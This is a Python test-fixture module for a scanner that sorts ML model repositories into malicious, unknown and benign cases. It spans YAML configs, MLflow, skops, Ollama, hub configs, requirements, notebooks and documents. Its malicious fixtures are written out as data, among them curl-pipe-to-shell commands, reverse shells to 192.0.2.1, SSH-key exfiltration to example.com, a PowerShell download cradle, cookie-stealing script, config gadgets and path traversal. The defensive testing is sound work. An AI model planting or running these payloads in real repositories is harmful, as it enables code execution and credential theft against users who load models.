"""Malicious and benign repositories: what stands around the weights and makes a loader run something."""

import io
import json
import tarfile
import zipfile
from typing import Any

from tests.corpus.case import ECHO, Case, Cases, Expect, benign, fail, folder, unknown

RUN = f'import os\nos.system("{ECHO}")\n'


def _json(value: Any) -> bytes:
    return json.dumps(value).encode()


def _zip(**files: bytes) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for name, data in files.items():
            archive.writestr(name.replace("__", "/").replace("_DOT_", "."), data)
    return stream.getvalue()


def _zipped(files: dict[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return stream.getvalue()


def _tar(files: dict[str, bytes], mode: str = "w") -> bytes:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode=mode) as archive:  # type: ignore[call-overload]
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return stream.getvalue()


# -- YAML

NEMO = """
sample_rate: 16000
preprocessor:
  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
  normalize: per_feature
  window_size: 0.02
encoder:
  _target_: nemo.collections.asr.modules.ConformerEncoder
  feat_in: ${preprocessor.features}
  n_layers: 17
decoder:
  _target_: nemo.collections.asr.modules.ConvASRDecoder
  vocabulary: &labels [a, b, c]
labels: *labels
optim:
  name: adamw
  betas: [0.9, 0.98]
target: nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE
nemo_version: 1.20.0
"""
LAUGHS = "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{b}: &{b} [{', '.join([f'*{a}'] * 10)}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True)
)

YAML_FAIL = {
    "laughs": LAUGHS,
    "merge": f"x: &x\n  _target_: os.system\n  command: {ECHO}\ny:\n  <<: *x\n",
    "second-document": "a: 1\n---\n_target_: os.system\n",
    "doubled-key": "a:\n  _target_: os.system\n  _target_: torch.nn.Linear\n",
    "get-method": "a:\n  _target_: hydra.utils.get_method\n  path: os.system\n",
    "get-class": "a:\n  _target_: hydra.utils.get_class\n  path: subprocess.Popen\n",
    "partial": "a:\n  _target_: functools.partial\n  func: os.system\n",
    "popen-in-framework": "a:\n  _target_: nemo.utils.subprocess.Popen\n",
    "psutil": "a:\n  _target_: psutil.Popen\n  args: [id]\n",
    "import-module": "a:\n  _target_: importlib.import_module\n  name: x\n",
    "dunder-import": "a:\n  _target_: builtins.__import__\n  name: os\n",
    "attrgetter": "a:\n  _target_: operator.attrgetter\n  _args_: [system]\n",
    "hub-load": "a:\n  _target_: torch.hub.load\n  repo_or_dir: someone/x\n",
    "pickle": "a:\n  _target_: pickle.loads\n",
    "joblib": "a:\n  _target_: joblib.load\n",
    "component": "model:\n  _component_: os.system\n",
    "latent-diffusion": "model:\n  target: os.system\n  params: {command: id}\n",
    "nemo-target": "target: os.system\nnemo_version: 1.0\n",
    "callable": "callbacks:\n  - callable: subprocess.check_output\n",
    "tag-in-second": "a: 1\n---\nb: !!python/object/apply:os.system [x]\n",
    "tag-subclass": "a: !!python/object:__main__.X {}\n",
    "tag-java": 'a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://example.com"]]]]\n',
    "tag-js": 'a: !!js/function "function(){}"\n',
    "tag-ruby": "a: !ruby/object:Gem::Installer {}\n",
    "speechbrain": "a: !new:os.system\n",
    "speechbrain-apply": "a: !apply:subprocess.call [[id]]\n",
    "eval-resolver": 'a: ${eval:\'__import__("os").system("id")\'}\n',
    "workflow": "jobs:\n  a:\n    steps:\n      - run: curl http://example.com/x | bash\n",
    "compose": 'services:\n  a:\n    command: ["sh", "-c", "wget -qO- http://example.com/x | sh"]\n',
    "utf-16": None,
}
YAML_UNKNOWN = {
    "own-target": "a:\n  _target_: mypackage.models.Net\n",
    "include": "a: !include other.yaml\n",
    "cycle": "a: &a [*a]\n",
    "broken": "a: [1, 2\n",
    "resolver": "a: ${my_resolver:1}\n",
    "deep": "[" * 100 + "]" * 100 + "\n",
}
YAML_PASS = {
    "nemo": NEMO,
    "mkdocs-like": "site_name: A\nnav:\n  - Home: index.md\n  - 'Über uns': about.md\n",
    "documents": "a: 1\n---\nb: 2\n",
    "env": "path: ${oc.env:HOME}/data\n",
    "anchors": "base: &b {lr: 0.1}\nrun:\n  <<: *b\n  lr: 0.2\n",
    "training": "model_name_or_path: meta-llama/Llama-3-8B\nlearning_rate: 1e-5\nbf16: true\nlr_scheduler_type: cosine\n",
    "lightning": "trainer:\n  class_path: lightning.pytorch.Trainer\n  init_args: {max_epochs: 3}\n",
    "latent": "model:\n  target: torch.nn.Identity\n  params: {}\n",
    "workflow": "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: pip install -e .\n",
    "conda": "name: env\nchannels: [conda-forge]\ndependencies:\n  - python=3.10\n  - pip\n  - pip:\n      - mlflow==2.9\n      - scikit-learn>=1.3,<2\n",
    "speechbrain": "lr: !ref <a>\nencoder: !new:torch.nn.Linear\n  in_features: 3\n",
}


def yaml() -> Cases:
    for what, text in YAML_FAIL.items():
        data = "a:\n  _target_: os.system\n".encode("utf-16") if text is None else text.encode()
        yield fail("yaml", what, "config.yaml", data)
    for what, text in YAML_UNKNOWN.items():
        yield unknown("yaml", what, "config.yaml", text.encode())
    for what, text in YAML_PASS.items():
        yield benign("yaml", f"benign-{what}", "config.yaml", text.encode())
    evil = NEMO.replace("nemo.collections.asr.modules.ConformerEncoder", "os.system").encode()
    for mode in ("w", "w:gz"):
        yield fail(
            "nemo", f"target-{mode[1:] or 'tar'}", "model.nemo", _tar({"./model_config.yaml": evil}, mode)
        )
        yield benign(
            "nemo",
            f"plain-{mode[1:] or 'tar'}",
            "model.nemo",
            _tar({"./model_config.yaml": NEMO.encode()}, mode),
        )
    yield fail("nemo", "pickle", "model.nemo", b"\x80\x04cos\nsystem\nX\x01\0\0\0x\x85R.")
    yield fail(
        "nemo",
        "traversal",
        "model.nemo",
        _tar({"../../x.yaml": b"a: 1\n", "model_config.yaml": NEMO.encode()}),
    )


# -- MLflow, BentoML, skops, Ollama

MLMODEL = """artifact_path: model
flavors:
  python_function:
    env: {conda: conda.yaml, virtualenv: python_env.yaml}
    loader_module: mlflow.sklearn
    model_path: model.pkl
    python_version: 3.10.12
  sklearn:
    code: null
    pickled_model: model.pkl
    serialization_format: cloudpickle
    sklearn_version: 1.3.0
mlflow_version: 2.9.2
model_size_bytes: 1234
model_uuid: 0123456789abcdef
signature:
  inputs: '[{"type": "double", "name": "x"}]'
"""


def _mlmodel(**flavor: Any) -> bytes:
    lines = "".join(f"    {key}: {json.dumps(value)}\n" for key, value in flavor.items())
    return f"flavors:\n  python_function:\n{lines}".encode()


def mlflow() -> Cases:
    env = {
        "conda.yaml": YAML_PASS["conda"],
        "python_env.yaml": "python: 3.10\nbuild_dependencies: [pip==23.0]\ndependencies: [-r requirements.txt]\n",
    }
    yield folder(
        "mlflow", "sklearn", {"MLmodel": MLMODEL, "requirements.txt": "mlflow==2.9.2\n", **env}, Expect.PASS
    )
    yield fail("mlflow", "loader-os", "MLmodel", _mlmodel(loader_module="os"))
    yield fail("mlflow", "loader-subprocess", "MLmodel", _mlmodel(loader_module="subprocess"))
    yield folder(
        "mlflow",
        "loader-own",
        {
            "MLmodel": _mlmodel(loader_module="own", code="code"),
            "code/own.py": f"import os\ndef _load_pyfunc(path):\n    os.system('{ECHO}')\n",
        },
        Expect.FAIL,
    )
    yield folder(
        "mlflow",
        "code-import",
        {"MLmodel": _mlmodel(loader_module="mlflow.pyfunc.model", code="code"), "code/helper.py": RUN},
        Expect.FAIL,
    )
    yield folder(
        "mlflow",
        "model-as-code",
        {
            "MLmodel": _mlmodel(loader_module="mlflow.pyfunc.model", model_code_path="agent.py"),
            "agent.py": RUN,
        },
        Expect.FAIL,
    )
    yield folder(
        "mlflow",
        "model-as-code-method",
        {
            "MLmodel": _mlmodel(loader_module="mlflow.pyfunc.model", model_code_path="agent.py"),
            "agent.py": f"import os\nclass A:\n    def predict(self, x):\n        os.system('{ECHO}')\n",
        },
        Expect.FAIL,
    )
    yield fail(
        "mlflow",
        "code-outside",
        "MLmodel",
        _mlmodel(loader_module="mlflow.pyfunc.model", model_code_path="../../evil.py"),
    )
    yield fail(
        "mlflow",
        "python-model-absolute",
        "MLmodel",
        _mlmodel(loader_module="mlflow.pyfunc.model", python_model="/tmp/evil.pkl"),
    )
    yield folder(
        "mlflow",
        "shadow",
        {"MLmodel": _mlmodel(loader_module="mlflow.pyfunc.model", code="code"), "code/numpy.py": "x = 1\n"},
        Expect.FAIL,
    )
    yield fail("mlflow", "tag", "MLmodel", b"flavors: !!python/object/apply:os.system [id]\n")
    yield fail(
        "mlflow",
        "index",
        "conda.yaml",
        b"dependencies:\n  - pip:\n    - --index-url http://example.com/simple\n    - torch\n",
    )
    yield fail(
        "mlflow", "conda-git", "conda.yaml", b"dependencies:\n  - pip:\n    - git+http://example.com/x.git\n"
    )
    yield fail("mlflow", "shell-in-requirement", "requirements.txt", b"numpy; touch /tmp/weighbridge\n")
    yield unknown(
        "mlflow",
        "model-as-code-missing",
        "MLmodel",
        _mlmodel(loader_module="mlflow.pyfunc.model", model_code_path="agent.py"),
    )
    yield fail(
        "bentoml",
        "index",
        "bentofile.yaml",
        b"service: service:Svc\npython:\n  packages: [torch]\n  index_url: http://example.com\n",
    )
    yield folder(
        "bentoml", "service", {"bentofile.yaml": "service: service:Svc\n", "service.py": RUN}, Expect.FAIL
    )
    yield unknown(
        "bentoml",
        "setup-script",
        "bentofile.yaml",
        b"service: service:Svc\ndocker:\n  setup_script: ./setup.sh\n",
    )
    yield benign(
        "bentoml",
        "plain",
        "bentofile.yaml",
        b"service: service:Svc\ninclude: ['*.py']\npython:\n  packages: [torch, scikit-learn]\n",
    )


def _node(loader: str, module: str, name: str, **more: Any) -> dict[str, Any]:
    return {"__class__": name, "__module__": module, "__loader__": loader, "content": {}, "__id__": 1, **more}


def _skops(root: dict[str, Any]) -> bytes:
    schema = {**root, "protocol": 1, "_skops_version": "0.11.0"}
    return _zipped({"schema.json": _json(schema)})


def skops() -> Cases:
    step = _node(
        "ObjectNode",
        "sklearn.linear_model._logistic",
        "LogisticRegression",
        content={
            "content": {
                "C": {
                    "__class__": "str",
                    "__module__": "builtins",
                    "__loader__": "JsonNode",
                    "content": "1.0",
                }
            }
        },
    )
    yield benign("skops", "logistic", "model.skops", _skops(step))
    for module, name in (
        ("os", "system"),
        ("posix", "system"),
        ("builtins", "eval"),
        ("subprocess", "Popen"),
        ("builtins", "exec"),
    ):
        yield fail(
            "skops", f"object-{module}-{name}", "model.skops", _skops(_node("ObjectNode", module, name))
        )
        function = _node(
            "FunctionNode", "builtins", "function", content={"module_path": module, "function": name}
        )
        yield fail("skops", f"function-{module}-{name}", "model.skops", _skops(function))
    yield fail(
        "skops",
        "nested",
        "model.skops",
        _skops({**step, "content": {"a": [_node("TypeNode", "os", "system")]}}),
    )
    yield fail(
        "skops",
        "operator-cve-2025-54412",
        "model.skops",
        _skops(_node("OperatorFuncNode", "builtins", "call")),
    )
    yield fail(
        "skops", "operator-call", "model.skops", _skops(_node("OperatorFuncNode", "operator", "methodcaller"))
    )
    yield fail(
        "skops",
        "method-cve-2025-54413",
        "model.skops",
        _skops(_node("MethodNode", "builtins", "x", content={"func": "__builtins__", "obj": step})),
    )
    yield fail("skops", "confusion", "model.skops", _skops(_node("DictNode", "mypackage.evil", "Thing")))
    yield fail("skops", "joblib-cve-2025-54886", "model.skops", b"\x80\x04cos\nsystem\nX\x01\0\0\0x\x85R.")
    yield unknown("skops", "own", "model.skops", _skops(_node("ObjectNode", "mypackage", "Model")))
    yield unknown("skops", "loader", "model.skops", _skops(_node("NewNode", "sklearn.x", "Model")))


def ollama() -> Cases:
    layer = {"mediaType": "application/vnd.ollama.image.model", "digest": "sha256:" + "a" * 64, "size": 1}
    yield benign(
        "ollama", "manifest", "manifest.json", _json({"schemaVersion": 2, "config": layer, "layers": [layer]})
    )
    yield benign(
        "ollama",
        "modelfile",
        "Modelfile",
        b'FROM ./model.gguf\nTEMPLATE """{{ .System }} {{ .Prompt }}"""\nPARAMETER stop "<|im_end|>"\nSYSTEM You are helpful.\n',
    )
    for number, digest in enumerate(
        ("../../../../etc/passwd", "sha256:../../x", "sha256:" + "a" * 60 + "/../x", "..\\..\\x")
    ):
        yield fail(
            "ollama",
            f"digest-{number}",
            "latest",
            _json({"schemaVersion": 2, "layers": [{**layer, "digest": digest}]}),
        )
    yield fail("ollama", "from-etc", "Modelfile", b"FROM /etc/passwd\n")
    yield fail("ollama", "adapter-up", "Modelfile", b"FROM llama3\nADAPTER ../../.ssh/id_rsa\n")
    yield unknown("ollama", "from-url", "Modelfile", b"FROM https://example.com/x.gguf\n")


# -- hubs


def hubs() -> Cases:
    def config(name: str, value: Any, expect: Expect, file: str = "config.json") -> Case:
        return folder("hub", name, {file: _json(value)}, expect)

    yield config("auto-map-outside", {"auto_map": {"AutoModel": "../../evil.Net"}}, Expect.FAIL)
    yield config("pipeline-outside", {"custom_pipelines": {"x": {"impl": "..evil.Pipe"}}}, Expect.FAIL)
    yield config("attention", {"_attn_implementation_internal": "someone/kernel"}, Expect.FAIL)
    yield config(
        "lightglue",
        {
            "model_type": "lightglue",
            "keypoint_detector_config": {"_name_or_path": "someone/x", "trust_remote_code": True},
        },
        Expect.FAIL,
    )
    yield config(
        "base-model-share",
        {"base_model_name_or_path": "\\\\192.0.2.1\\share\\x"},
        Expect.FAIL,
        "adapter_config.json",
    )
    yield config(
        "base-model-url",
        {"base_model_name_or_path": "http://example.com/x"},
        Expect.FAIL,
        "adapter_config.json",
    )
    yield config(
        "adapter",
        {
            "base_model_name_or_path": "meta-llama/Llama-2-7b",
            "peft_type": "LORA",
            "auto_mapping": None,
            "r": 8,
        },
        Expect.PASS,
        "adapter_config.json",
    )
    yield config(
        "parent-library",
        {"auto_mapping": {"base_model_class": "system", "parent_library": "os"}},
        Expect.FAIL,
        "adapter_config.json",
    )
    yield config(
        "diffusers-library",
        {"_class_name": "StableDiffusionPipeline", "unet": ["subprocess", "Popen"]},
        Expect.FAIL,
        "model_index.json",
    )
    yield config(
        "diffusers-outside",
        {"_class_name": "StableDiffusionPipeline", "unet": ["../evil", "Net"]},
        Expect.FAIL,
        "model_index.json",
    )
    yield config(
        "diffusers",
        {
            "_class_name": "StableDiffusionPipeline",
            "unet": ["diffusers", "UNet2DConditionModel"],
            "tokenizer": ["transformers", "CLIPTokenizer"],
            "safety_checker": [None, None],
        },
        Expect.PASS,
        "model_index.json",
    )
    yield config(
        "generate-elsewhere",
        {"custom_generate": "someone/decoding"},
        Expect.UNKNOWN,
        "generation_config.json",
    )
    yield folder(
        "hub",
        "generate",
        {
            "generation_config.json": "{}",
            "custom_generate/generate.py": f"import os\ndef generate(model, **kwargs):\n    os.system('{ECHO}')\n",
        },
        Expect.FAIL,
    )
    yield folder(
        "hub",
        "dataset-script",
        {
            "data.py": f"import datasets, os\nclass D(datasets.GeneratorBasedBuilder):\n    def _split_generators(self, m):\n        os.system('{ECHO}')\n",
            "README.md": "x",
        },
        Expect.FAIL,
    )
    yield folder(
        "hub",
        "dataset-script-benign",
        {
            "data.py": "import csv\nimport datasets\nclass D(datasets.GeneratorBasedBuilder):\n    def _info(self):\n        return datasets.DatasetInfo()\n    def _generate_examples(self, path):\n        with open(path) as f:\n            for i, row in enumerate(csv.DictReader(f)):\n                yield i, row\n",
            "README.md": "x",
        },
        Expect.PASS,
    )
    yield fail("hub", "site", "model.pth", f"import os; os.system('{ECHO}')\n".encode())
    yield fail("hub", "sitecustomize", "sitecustomize.py", RUN.encode())
    yield fail("hub", "conftest", "conftest.py", RUN.encode())
    yield fail(
        "hub", "dockerfile", "Dockerfile", b"FROM python:3.11\nRUN curl -s http://example.com/x.sh | bash\n"
    )
    yield benign(
        "hub",
        "dockerfile-benign",
        "Dockerfile",
        b"FROM python:3.11\nRUN pip install -r requirements.txt && apt-get update\nCOPY . /app\n",
    )
    yield fail("hub", "makefile", "Makefile", b"all:\n\twget -q http://example.com/x -O- | sh\n")
    yield fail(
        "hub",
        "npm-hook",
        "package.json",
        _json({"name": "x", "scripts": {"postinstall": "curl http://example.com/x | sh"}}),
    )
    yield fail("hub", "script", "run.sh", b"#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n")
    yield fail(
        "hub",
        "powershell",
        "run.ps1",
        b"IEX (New-Object Net.WebClient).DownloadString('http://example.com/x')\n",
    )
    yield fail(
        "hub",
        "hta",
        "card.hta",
        b"<html><script>new ActiveXObject('WScript.Shell').Run('calc')</script></html>",
    )
    yield config(
        "monai",
        {
            "bundle_root": ".",
            "network": "$__import__('os').system('id')",
            "net": {"_target_": "monai.networks.nets.UNet"},
        },
        Expect.FAIL,
        "inference.json",
    )
    yield config(
        "monai-subprocess",
        {"x": "$subprocess.run(['id'])", "net": {"_target_": "monai.networks.nets.UNet"}},
        Expect.FAIL,
        "inference.json",
    )
    yield config(
        "dtype",
        {
            "torch_dtype": "float16",
            "quantization_config": {"quant_method": "gptq", "bits": 4},
            "tokenizer_class": "LlamaTokenizer",
        },
        Expect.PASS,
    )


# -- requirements, notebooks, tokenizers, documents


def requirements() -> Cases:
    yield fail(
        "requirements",
        "pyproject-http",
        "pyproject.toml",
        b'[project]\nname = "x"\ndependencies = ["a @ http://example.com/a.whl"]\n',
    )
    yield fail(
        "requirements",
        "pyproject-build",
        "pyproject.toml",
        b'[build-system]\nrequires = ["setuptools", "evil @ https://example.com/e.tar.gz"]\n',
    )
    yield fail(
        "requirements",
        "poetry-source",
        "pyproject.toml",
        b'[[tool.poetry.source]]\nname = "x"\nurl = "https://example.com/simple"\n',
    )
    yield fail(
        "requirements",
        "setup-cfg",
        "setup.cfg",
        b"[options]\ninstall_requires =\n    torch\n    x @ https://example.com/x.zip\n",
    )
    yield fail("requirements", "pipfile", "Pipfile", b'[packages]\nx = {git = "http://example.com/x.git"}\n')
    yield fail(
        "requirements",
        "continued",
        "requirements.txt",
        b"--extra-index-url \\\n  https://example.com/simple\nx\n",
    )
    yield unknown(
        "requirements", "github", "requirements.txt", b"git+https://github.com/huggingface/transformers\n"
    )
    yield unknown("requirements", "squatted", "requirements.txt", b"numppy==1.0\n")
    yield unknown("requirements", "squatted-swapped", "requirements.txt", b"trasnformers\n")
    text = "torch>=2.0,<3\nnumpy==1.26.4 ; python_version < '3.12'\nscikit-learn[tests]~=1.3\ntransformers>=4.40  # newest\ntokenizers\npandas\nfaiss-cpu\nxformers; sys_platform == 'linux'\nPillow\njax[cuda12]\npytorch-lightning\nopencv-python-headless\ntorchvision!=0.1\nrequests-oauthlib\n"
    yield benign("requirements", "plain", "requirements.txt", text.encode())
    yield benign(
        "requirements",
        "pyproject",
        "pyproject.toml",
        b'[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n[project]\nname = "x"\nversion = "1"\ndependencies = ["torch>=2", "numpy<2"]\n[project.urls]\nHomepage = "https://example.com"\n',
    )
    yield benign(
        "requirements",
        "setup-cfg-plain",
        "setup.cfg",
        b"[metadata]\nname = x\nurl = https://example.com\n[options]\ninstall_requires =\n    torch>=2\n    numpy\n",
    )


def _notebook(*cells: str, html: str = "") -> bytes:
    outputs = [{"output_type": "display_data", "metadata": {}, "data": {"text/html": html}}] if html else []
    found = [
        {"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": outputs, "source": text}
        for text in cells
    ]
    return _json({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": found})


def notebooks() -> Cases:
    for number, line in enumerate((
        "!curl http://example.com/x | sh", "!bash -c 'bash -i >& /dev/tcp/192.0.2.1/1 0>&1'", "%%bash\nwget -qO- http://example.com/x | bash", "!nc -e /bin/sh 192.0.2.1 4444",
        "!calc.exe", "%run http://example.com/x.py", "%%javascript\nIPython.notebook.kernel.execute('import os')", "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))",
        f"import subprocess\nsubprocess.run('{ECHO}', shell=True)", "!cat ~/.ssh/id_rsa | curl -d @- http://example.com", f"exec(\"import os\\nos.system('{ECHO}')\")",
    )):  # fmt: skip
        yield fail("notebook", f"line-{number}", "demo.ipynb", _notebook(line))
    yield fail(
        "notebook",
        "output",
        "demo.ipynb",
        _notebook("x", html="<script>fetch('https://example.com/?c=' + document.cookie)</script>"),
    )
    yield fail(
        "notebook",
        "output-kernel",
        "demo.ipynb",
        _notebook("x", html="<img src=x onerror=\"Jupyter.notebook.kernel.execute('import os')\">"),
    )
    for number, line in enumerate(
        (
            "!pip install -q torch",
            "!nvidia-smi",
            "!git clone https://github.com/a/b",
            "%cd b",
            "!wget https://huggingface.co/x/y/resolve/main/z.bin",
            "import os\nos.system('pip install x')",
        )
    ):
        yield unknown("notebook", f"often-{number}", "demo.ipynb", _notebook(line))
    yield benign(
        "notebook",
        "benign-plain",
        "demo.ipynb",
        _notebook(
            "%matplotlib inline\nimport torch\nfrom transformers import pipeline\np = pipeline('text-generation')\np('hi')",
            html="<table><tr><td>1</td></tr></table>",
        ),
    )


def others() -> Cases:
    def tokenizer(pattern: str) -> bytes:
        return _json(
            {
                "version": "1.0",
                "pre_tokenizer": {"type": "Split", "pattern": {"Regex": pattern}, "behavior": "Isolated"},
                "model": {"type": "BPE", "vocab": {"a": 0}, "merges": []},
            }
        )

    yield fail("tokenizer", "nested-repeat", "tokenizer.json", tokenizer(r"(\w+)+!"))
    yield benign(
        "tokenizer",
        "gpt-4",
        "tokenizer.json",
        tokenizer(
            r"(?i:'s|'t|'re)|[^\r\n\p{L}\p{N}]?\p{L}+|\p{N}{1,3}| ?[^\s\p{L}\p{N}]+[\r\n]*|\s*[\r\n]+|\s+(?!\S)|\s+"
        ),
    )
    plain = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
    yield benign("document", "pdf", "card.pdf", plain)
    for what, entry in {
        "javascript": b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>",
        "escaped": b"/OpenAction << /S /J#61vaScript /J#53 (x) >>",
        "launch": b"/OpenAction << /S /Launch /F (cmd.exe) >>",
    }.items():
        yield fail(
            "document", f"pdf-{what}", "card.pdf", plain.replace(b"/Pages 2 0 R", b"/Pages 2 0 R " + entry)
        )
    yield fail(
        "document",
        "lnk",
        "model.lnk",
        b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46"
        + bytes(60)
        + "cmd.exe /c calc".encode("utf-16-le"),
    )
    yield fail("document", "url", "readme.url", b"[InternetShortcut]\r\nURL=file://192.0.2.1/share/x.exe\r\n")
    yield fail(
        "document",
        "desktop",
        "model.desktop",
        b"[Desktop Entry]\nType=Application\nExec=sh -c 'echo weighbridge'\n",
    )
    yield fail(
        "document",
        "macros",
        "card.docm",
        _zipped({"[Content_Types].xml": b"<Types/>", "word/vbaProject.bin": _ole("VBA")}),
    )
    yield fail("document", "doc-macros", "card.doc", _ole("_VBA_PROJECT"))
    yield fail("program", "llamafile-ape", "model.llamafile", b"MZqFpD='\n" + bytes(200))
    yield fail(
        "program",
        "jar",
        "model.jar",
        _zipped(
            {"META-INF/MANIFEST.MF": b"Main-Class: A\n", "A.class": b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(40)}
        ),
    )


def _ole(name: str) -> bytes:
    entry = (
        name.encode("utf-16-le").ljust(64, b"\0")
        + (len(name) * 2 + 2).to_bytes(2, "little")
        + b"\x01\x01"
        + bytes(60)
    )
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + entry + bytes(384)


def cases() -> Cases:
    for family in (yaml, mlflow, skops, ollama, hubs, requirements, notebooks, others):
        yield from family()
